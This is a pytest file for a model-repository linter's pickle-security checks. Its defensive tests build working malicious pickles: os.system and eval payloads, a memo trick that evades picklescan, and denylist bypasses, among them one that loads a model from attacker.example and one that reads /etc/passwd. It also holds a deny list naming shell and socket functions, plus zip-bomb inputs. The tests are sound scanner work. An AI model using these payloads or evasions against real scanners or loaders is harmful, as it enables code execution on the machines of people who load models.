"""unsafe-pickle and remote-code: payload pickles are caught, and never run.

Every payload would create a sentinel file if anything unpickled it; after hfdoctor
has scanned them (in this process and through the CLI) the sentinel must not exist.
Verdicts are compared with picklescan's (the scanner the Hub runs) on the same files.
"""

from __future__ import annotations

import collections
import json
import logging
import os
import pickle
import struct
from pathlib import Path

import pytest

from conftest import UPSTREAM, check_json, rules_alone
from hfdoctor.lint.check import run_rules
from hfdoctor.modelfiles.scan import scan_file
from hfdoctor.modelfiles.allowlist import classify
from hfdoctor.repo import ModelRepo
from hfdoctor.lint.rules import selected_rules
from hfdoctor.knowledge.upstream import Upstream

OFFLINE = Upstream((UPSTREAM,), use_cache=False, use_hub=False)
SECURITY_RULES = selected_rules(["SEC"])


def _short(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw  # SHORT_BINUNICODE


def memo_laundered(module: str, name: str, arg: str) -> bytes:
    """module.name(arg) with the module string passed through the memo twice.

    BINGET 0 / MEMOIZE re-memoizes 'os' under a new index; a scanner that takes the value
    of the op before MEMOIZE (picklescan) records the number 0 there, not 'os'.
    """
    return (
        b"\x80\x04" + _short(module) + b"\x94" + b"0"  # memo[0] = module; pop
        + b"h\x00" + b"\x94" + b"0"  # get memo[0]; memo[1] = it; pop
        + b"h\x01" + _short(name) + b"\x93"  # STACK_GLOBAL(memo[1], name)
        + _short(arg) + b"\x85R."  # (arg,) -> call
    )


def test_memo_laundered_pickle_is_a_working_pickle():
    """The laundering trick is real: with a harmless callable, pickle.loads runs it."""
    assert pickle.loads(memo_laundered("builtins", "len", "abc")) == 3


class OsSystem:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


class Eval:
    def __init__(self, source):
        self.source = source

    def __reduce__(self):
        return (eval, (self.source,))


def payload_files(directory, sentinel) -> dict[str, bool]:
    """Write pickles, return {file name: should be flagged dangerous}."""
    import torch

    touch = f"touch {sentinel}"
    files = {}
    for proto in (0, 2, 4, 5):
        (directory / f"proto{proto}.pkl").write_bytes(pickle.dumps({"w": [1, 2], "x": OsSystem(touch)}, protocol=proto))
        files[f"proto{proto}.pkl"] = True
    (directory / "eval.pt").write_bytes(pickle.dumps(Eval(f"__import__('os').system({touch!r})"), protocol=2))
    files["eval.pt"] = True
    (directory / "laundered.ckpt").write_bytes(memo_laundered("os", "system", touch))
    files["laundered.ckpt"] = True
    # An import whose module is not a string literal: cannot be named, so it is dangerous.
    (directory / "computed.pkl").write_bytes(b"\x80\x04K\x01" + _short("system") + b"\x93" + _short("x") + b"\x85R.")
    files["computed.pkl"] = True
    torch.save({"w": torch.zeros(3), "evil": OsSystem(touch)}, directory / "pytorch_model.bin")
    files["pytorch_model.bin"] = True
    torch.save({"w": torch.zeros(2), "evil": OsSystem(touch)}, directory / "legacy_evil.pth",
               _use_new_zipfile_serialization=False)
    files["legacy_evil.pth"] = True
    # A payload before the damage still runs: truncation does not make it safe.
    (directory / "truncated.pkl").write_bytes(pickle.dumps(OsSystem(touch), protocol=4)[:-6])
    files["truncated.pkl"] = True
    torch.save(collections.OrderedDict(w=torch.zeros(3, 2, dtype=torch.bfloat16)), directory / "clean.bin")
    files["clean.bin"] = False
    torch.save({"w": torch.zeros(2)}, directory / "clean_legacy.pt", _use_new_zipfile_serialization=False)
    files["clean_legacy.pt"] = False
    return files


@pytest.fixture(scope="module")
def payloads(tmp_path_factory):
    directory = tmp_path_factory.mktemp("payloads")
    sentinel = tmp_path_factory.getbasetemp() / "PAYLOAD-RAN"
    files = payload_files(directory, sentinel)
    yield directory, sentinel, files
    assert not sentinel.exists(), "a payload ran"


def test_payloads_are_unsafe_pickle_and_never_run(payloads):
    directory, sentinel, files = payloads
    repo = ModelRepo(directory, upstream=OFFLINE)
    found, internal = run_rules(repo, SECURITY_RULES)
    assert not internal, internal
    errors = {f.file for f in found if f.rule == "unsafe-pickle" and str(f.severity) == "error"}
    assert errors == {name for name, bad in files.items() if bad}, [f.message for f in found]
    by_file = {f.file: f.message for f in found if str(f.severity) == "error"}
    assert "posix.system" in by_file["proto4.pkl"] and "__builtin__.eval" in by_file["eval.pt"]
    assert "os.system" in by_file["laundered.ckpt"] and "<unresolved>" in by_file["computed.pkl"]
    assert "(in pytorch_model/data.pkl)" in by_file["pytorch_model.bin"]
    assert not any(f.file in ("clean.bin", "clean_legacy.pt") for f in found)
    assert not sentinel.exists()


def test_payloads_through_the_cli(payloads):
    directory, sentinel, files = payloads
    report, proc = check_json(directory, "--select", "SEC")
    assert proc.returncode == 1
    assert {f["file"] for f in report["findings"] if f["severity"] == "error"} == {n for n, bad in files.items() if bad}
    assert not sentinel.exists()


def test_verdicts_agree_with_picklescan(payloads):
    """Everything picklescan calls dangerous we call dangerous; we also see through the memo."""
    from picklescan.scanner import scan_file_path

    directory, _, files = payloads
    logging.getLogger("picklescan").setLevel(logging.CRITICAL)
    ours, theirs = {}, {}
    for name in files:
        ours[name] = bool(scan_file(directory / name).by_verdict("dangerous"))
        theirs[name] = scan_file_path(str(directory / name)).issues_count > 0
    assert {n for n, bad in theirs.items() if bad} <= {n for n, bad in ours.items() if bad}
    assert {n for n, bad in ours.items() if bad != theirs[n]} == {"laundered.ckpt"}, (ours, theirs)


def test_classification_of_common_imports():
    assert classify("torch._utils", "_rebuild_tensor_v2") == "safe"
    assert classify("torch", "BFloat16Storage") == "safe"
    assert classify("torch", "bfloat16") == "safe"
    assert classify("collections", "OrderedDict") == "safe"
    assert classify("numpy.core.multiarray", "_reconstruct") == "safe"
    for module, name in [("os", "system"), ("posix", "system"), ("subprocess", "Popen"), ("builtins", "exec"),
                         ("__builtin__", "getattr"), ("runpy", "_run_code"), ("socket", "create_connection"),
                         ("shutil", "rmtree"), ("pty", "spawn"), ("webbrowser", "open"), ("importlib", "import_module"),
                         ("torch.serialization", "load"), ("builtins", "__import__"), ("functools", "partial")]:
        assert classify(module, name) == "dangerous", (module, name)
    for module, name in [("numpy", "__builtins__"), ("numpy", "core._internal.sys.modules"), ("numpy", "prod.os.system"),
                         ("torch", "__class__")]:
        assert classify(module, name) == "dangerous", (module, name)
    assert classify("transformers.training_args", "TrainingArguments") == "known"
    assert classify("torch.nn.modules.linear", "Linear") == "known"
    # axolotl's argument dataclasses (fields only, as its training_args.py declares them); its mixin and any
    # other axolotl class stay unlisted.
    assert classify("axolotl.core.training_args", "AxolotlTrainingArguments") == "known"
    assert classify("axolotl.core.trainers.grpo.args", "AxolotlGRPOConfig") == "known"
    assert classify("transformers.integrations.deepspeed", "HfTrainerDeepSpeedConfig") == "known"  # DeepSpeed runs
    assert classify("swift.trainers.arguments", "Seq2SeqTrainingArguments") == "known"  # ms-swift
    assert classify("accelerate.utils.dataclasses", "DeepSpeedPlugin") == "known"  # ZeRO runs keep it and
    assert classify("transformers.integrations.deepspeed", "HfDeepSpeedConfig") == "known"  # its weakref config
    assert classify("transformers.generation.configuration_utils", "GenerationConfig") == "known"  # Seq2Seq args
    assert classify("accelerate.utils.dataclasses", "FullyShardedDataParallelPlugin") == "unlisted"  # not read
    for module, name in [("axolotl.core.training_args", "AxolotlTrainingMixins"), ("axolotl.utils", "AxolotlConfig"),
                         ("axolotl.core.training_args", "Payload")]:
        assert classify(module, name) == "unlisted", (module, name)
    assert classify("__builtin__", "set") == "safe"  # protocol 2 names builtins so
    for module, name in [("pandas", "read_csv"), ("mlflow.pyfunc", "load_model"), ("zlib", "decompress"),
                         ("timm.models", "load_checkpoint"), ("numpy", "size"), ("__main__", "Payload")]:
        assert classify(module, name) == "unlisted", (module, name)


def _assemble(*ops: bytes) -> bytes:
    return b"\x80\x04" + b"".join(ops) + b"."


def bypass_payloads(command: str) -> dict[str, bytes]:
    """Real payloads that denylist scanners (modelscan #330, #89, #338) let through, running `command`."""
    return {
        # numpy.size(numpy.size, 'eval') after BUILD set numpy.size.shape = numpy.__builtins__ (modelscan #330)
        "numpy_builtins.pkl": _assemble(
            _short("numpy"), _short("size"), b"\x93\x94\x94", _short("numpy"), _short("__builtins__"), b"\x93\x94\x94",
            b"h\x01}}", _short("shape"), b"h\x03s\x86b", b"h\x01h\x01", _short("eval"), b"\x86R",
            _short(f"__import__('os').system({command!r})"), b"\x85R",
        ),
        # numpy + "lib._datasource.os.system": pickle walks attributes from a harmless module to os (modelscan #89)
        "attribute_path.pkl": _assemble(_short("numpy"), _short("lib._datasource.os.system"), b"\x93",
                                        _short(command), b"\x85R"),
        # a library loader is not "dangerous" to a denylist, but fetches and runs a model (mlflow, timm)
        "mlflow.pkl": _assemble(_short("mlflow.pyfunc"), _short("load_model"), b"\x93",
                                _short("https://attacker.example/model"), b"\x85R"),
        "timm.pth": _assemble(_short("timm.models"), _short("load_checkpoint"), b"\x93", b"N", _short("/tmp/x"), b"\x86R"),
        # exfiltration: pandas reads any file or URL
        "read_csv.pkl": _assemble(_short("pandas"), _short("read_csv"), b"\x93", _short("/etc/passwd"), b"\x85R"),
    }


def test_bypass_payloads_are_real(tmp_path):
    """The attribute-path payload does run when unpickled (in a child process).

    (The numpy.__builtins__ one needs numpy < 2, whose np.size indexed a.shape[axis]
    without normalizing the axis; it is checked for detection only.)
    """
    import subprocess
    import sys

    for name in ("attribute_path.pkl",):
        marker = tmp_path / f"{name}.ran"
        (tmp_path / name).write_bytes(bypass_payloads(f"touch {marker}")[name])
        subprocess.run([sys.executable, "-c", f"import pickle; pickle.load(open({str(tmp_path / name)!r}, 'rb'))"],
                       capture_output=True, timeout=120)
        assert marker.exists(), name


def test_bypass_payloads_are_errors_and_never_run(tmp_path):
    sentinel = tmp_path / "BYPASS-RAN"
    for name, data in bypass_payloads(f"touch {sentinel}").items():
        (tmp_path / name).write_bytes(data)
    found, internal = run_rules(ModelRepo(tmp_path, upstream=OFFLINE), SECURITY_RULES)
    assert not internal
    by_file = {f.file: f for f in found}
    assert set(by_file) == set(bypass_payloads("x")) and all(str(f.severity) == "error" for f in found)
    builtins_message = by_file["numpy_builtins.pkl"].message
    assert "runs code" in builtins_message and "numpy.__builtins__" in builtins_message
    assert "numpy.size(numpy.size, 'eval')" in builtins_message and "system" in builtins_message
    assert "set attributes of numpy.size" in builtins_message
    assert "numpy.lib._datasource.os.system" in by_file["attribute_path.pkl"].message
    assert "mlflow.pyfunc.load_model('https://attacker.example/model',)" in by_file["mlflow.pkl"].message
    assert "pandas.read_csv('/etc/passwd',)" in by_file["read_csv.pkl"].message
    assert "never needs" in by_file["timm.pth"].message
    report, proc = check_json(tmp_path, "--select", "SEC")
    assert proc.returncode == 1 and len(report["findings"]) == 5
    assert not sentinel.exists()


def test_training_state_is_info(tmp_path):
    import argparse

    import torch
    from transformers import TrainingArguments

    (tmp_path / "args.bin").write_bytes(pickle.dumps(argparse.Namespace(lr=1e-5), protocol=4))
    # What Trainer really writes: torch.save(TrainingArguments) into training_args.bin.
    # (Built without __init__, which wants accelerate; the pickle is the same NEWOBJ + BUILD.)
    args = TrainingArguments.__new__(TrainingArguments)
    args.__dict__.update(output_dir="out", learning_rate=1e-5)
    torch.save(args, tmp_path / "training_args.bin")
    torch.save(torch.nn.Linear(2, 2), tmp_path / "layer.pt")
    found, _ = run_rules(ModelRepo(tmp_path, upstream=OFFLINE), SECURITY_RULES)
    assert sorted((f.file, f.rule, str(f.severity)) for f in found) == [
        ("args.bin", "pickle-training-state", "info"), ("layer.pt", "pickle-training-state", "info"),
        ("training_args.bin", "pickle-training-state", "info")], [f.message for f in found]
    by_file = {f.file: f.message for f in found}
    assert "argparse.Namespace" in by_file["args.bin"] and "weights_only" in by_file["args.bin"]
    assert "transformers.training_args.TrainingArguments" in by_file["training_args.bin"]
    assert "torch.nn.modules.linear.Linear" in by_file["layer.pt"]


def test_protocol_2_builtins_are_safe(tmp_path):
    (tmp_path / "state.pkl").write_bytes(pickle.dumps({"ids": {1, 2}, "raw": b"ab"}, protocol=2))
    found, _ = run_rules(ModelRepo(tmp_path, upstream=OFFLINE), SECURITY_RULES)
    assert not found, [f.message for f in found]


def test_not_a_pickle_and_hostile_lengths(tmp_path):
    (tmp_path / "random.bin").write_bytes(bytes(range(7, 200)) * 10)
    # BINBYTES8 claiming 2**62 bytes of a 13-byte file: the unpickler refuses it (truncated),
    # and nothing is allocated or read.
    (tmp_path / "short.pkl").write_bytes(b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"xx")
    # The same claim of 96 MB that the file holds (a hole): the loader reads on past what
    # hfdoctor reads, so the file is not proven safe.
    with open(tmp_path / "huge.pkl", "wb") as f:
        f.write(b"\x80\x04\x8e" + struct.pack("<Q", 96 * 2**20))
        f.truncate(96 * 2**20 + 11)
    found, internal = run_rules(ModelRepo(tmp_path, upstream=OFFLINE), SECURITY_RULES)
    assert not internal
    by_file = {f.file: f for f in found}
    assert (by_file["random.bin"].code, str(by_file["random.bin"].severity)) == ("SEC008", "info")
    assert (by_file["short.pkl"].code, str(by_file["short.pkl"].severity)) == ("SEC007", "warning")
    assert "truncated" in by_file["short.pkl"].message
    assert (by_file["huge.pkl"].code, str(by_file["huge.pkl"].severity)) == ("SEC006", "error")
    assert "not proven safe" in by_file["huge.pkl"].message


def test_zip_bomb_of_pickles_is_read_within_one_budget(tmp_path):
    """A torch-like zip of 12 pickles of 16 MB each stops after 64 MB, not 64 MB per member.

    (With a budget per member, a 60 MB zip of a thousand such members is 16 GB to read.)
    """
    import zipfile

    from hfdoctor.modelfiles import result as picklemachine

    big = b"\x80\x04\x8e" + struct.pack("<Q", 16 * 2**20) + bytes(16 * 2**20) + b"."  # BINBYTES8, STOP
    with zipfile.ZipFile(tmp_path / "pytorch_model.bin", "w", zipfile.ZIP_DEFLATED) as archive:
        for i in range(12):
            archive.writestr(f"archive/data{i}.pkl", big)
    scan = scan_file(tmp_path / "pytorch_model.bin")
    assert not scan.imports
    # Each member inflates 16 MB from 16 KB: the scan stops at the 64 MB budget or the ratio
    # cap, whichever comes first, and either way the file is not proven safe (an error).
    assert scan.unproven and len(scan.unproven) <= 13, scan.unproven
    assert scan.bytes_left >= 0
    found, _ = run_rules(ModelRepo(tmp_path, upstream=OFFLINE), SECURITY_RULES)
    assert [(f.rule, str(f.severity)) for f in found] == [("pickle-not-proven-safe", "error")]
    assert "not proven safe" in found[0].message


def test_upstream_folders_have_no_pickle_findings():
    for folder in sorted(p for p in UPSTREAM.iterdir() if p.is_dir()):
        found, internal = run_rules(ModelRepo(folder, upstream=OFFLINE), selected_rules(["SEC001"]))
        assert not found and not internal, folder


def test_remote_code_auto_map(copy_upstream):
    found, _ = run_rules(ModelRepo(UPSTREAM / "deepseek-ai--DeepSeek-R1", upstream=OFFLINE), SECURITY_RULES)
    assert [(f.rule, str(f.severity), f.file) for f in found] == [("remote-code", "warning", "config.json")]
    message = found[0].message
    assert "trust_remote_code=True" in message and "modeling_deepseek.py (not in this checkout)" in message
    assert "native deepseek_v3" in message
    # phi-4 ships an empty auto_map: nothing to run.
    found, _ = run_rules(ModelRepo(UPSTREAM / "microsoft--phi-4", upstream=OFFLINE), SECURITY_RULES)
    assert not found
    # A tokenizer from another repo's code ([slow, fast] list form).
    path = copy_upstream("Qwen--Qwen3-8B")
    config = json.loads((path / "tokenizer_config.json").read_text())
    config["auto_map"] = {"AutoTokenizer": ["acme/tok--tokenization_acme.AcmeTokenizer", None]}
    (path / "tokenizer_config.json").write_text(json.dumps(config))
    found, _ = run_rules(ModelRepo(path, upstream=OFFLINE), SECURITY_RULES)
    assert [f.file for f in found] == ["tokenizer_config.json"]
    assert "tokenization_acme.py from acme/tok" in found[0].message


def test_a_zstd_pickle_is_not_proven_safe_and_a_zstd_dataset_is_not_a_pickle(tmp_path):
    """pandas.read_pickle reads model.pkl.zst (zstd, which this Python cannot decompress): what it holds is
    unpickled, so it is not proven safe. train.jsonl.zst is no loader's pickle and is not scanned."""
    zstd_frame = b"\x28\xb5\x2f\xfd" + bytes(64)
    (tmp_path / "config.json").write_text('{"model_type": "llama"}')
    (tmp_path / "model.pkl.zst").write_bytes(zstd_frame)
    (tmp_path / "train.jsonl.zst").write_bytes(zstd_frame)
    found = {(f["code"], f["file"]) for f in check_json(tmp_path, "--select", "SEC")[0]["findings"]}
    assert ("SEC006", "model.pkl.zst") in found and not any(file == "train.jsonl.zst" for _, file in found)


@pytest.mark.parametrize("slug, imported", [
    ("21-GAVINU__kubecomworkflow__model", "accelerate.utils.dataclasses.DeepSpeedPlugin"),
    ("29aitch__AIchatbot__output_checkpoint-3000", "transformers.generation.configuration_utils.GenerationConfig"),
])
def test_published_training_args_of_deepspeed_and_seq2seq_runs_are_training_state(tmp_path, slug, imported):
    """Real training_args.bin files people published (tests/corpus/community): a ZeRO run's (accelerate's
    DeepSpeedPlugin and transformers' HfDeepSpeedConfig) and GLM-4's Seq2SeqTrainingArguments with a
    GenerationConfig are plain training state (info), while a script's own __main__.Args stays an error."""
    import sys
    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "corpus"))
    import community_load

    folder = community_load.materialise_one(slug, tmp_path)
    found = rules_alone(folder, ["SEC001", "SEC004"])
    assert [f.code for f in found] == ["SEC004"], [(f.code, f.message) for f in found]
    assert found[0].file == "training_args.bin" and str(found[0].severity) == "info"
    assert classify(*imported.rsplit(".", 1)) == "known"
    [unsafe] = rules_alone(community_load.materialise_one("Shran21__LoraAI-Server__model", tmp_path), ["SEC001"])
    assert "__main__.Args" in unsafe.message
